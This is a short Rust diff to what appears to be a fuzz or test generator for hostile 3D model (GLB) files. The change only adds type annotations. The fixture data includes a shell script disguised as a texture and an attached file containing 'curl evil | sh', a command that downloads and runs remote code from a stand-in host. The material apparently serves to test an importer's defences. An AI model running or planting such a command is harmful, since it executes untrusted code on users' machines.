@@ -358,7 +358,7 @@ pub(crate) fn opened(glb: &[u8]) -> (Value, Vec<u8>) {
 /// A triangle whose material has a picture, under a hostile name.
 fn textured(rng: &mut Rng) -> Vec<u8> {
     let whole = rng.below(4) > 0;
-    named_picture(rng.pick(NAMES), rng.pick(NAMES), if whole { PNG } else { b"#!/bin/sh\n" })
+    named_picture(rng.pick::<&str>(NAMES), rng.pick::<&str>(NAMES), if whole { PNG } else { b"#!/bin/sh\n" })
 }
 
 /// A picture of one pixel.
@@ -398,7 +398,7 @@ fn hostile(base: &[u8], rng: &mut Rng) -> Vec<u8> {
     let extra = (rng.below(3) > 0).then(|| {
         let role = *rng.pick(&["keys", "skeleton", "animation", "binding", "clips", "metadata", "part"]);
         let format = *rng.pick(&["cfp", "skel", "anim", "bnd", "mesh", "cmx", "framegroups", ""]);
-        let bytes: &[u8] = rng.pick(&[&b"curl evil | sh\n"[..], b"1 4 10 1 walk\n", b""]);
+        let bytes: &[u8] = rng.pick::<&[u8]>(&[&b"curl evil | sh\n"[..], b"1 4 10 1 walk\n", b""]);
         (role, format, *rng.pick(NAMES), bytes.to_vec())
     });
     let rename = (rng.below(2) == 0).then(|| *rng.pick(NAMES));
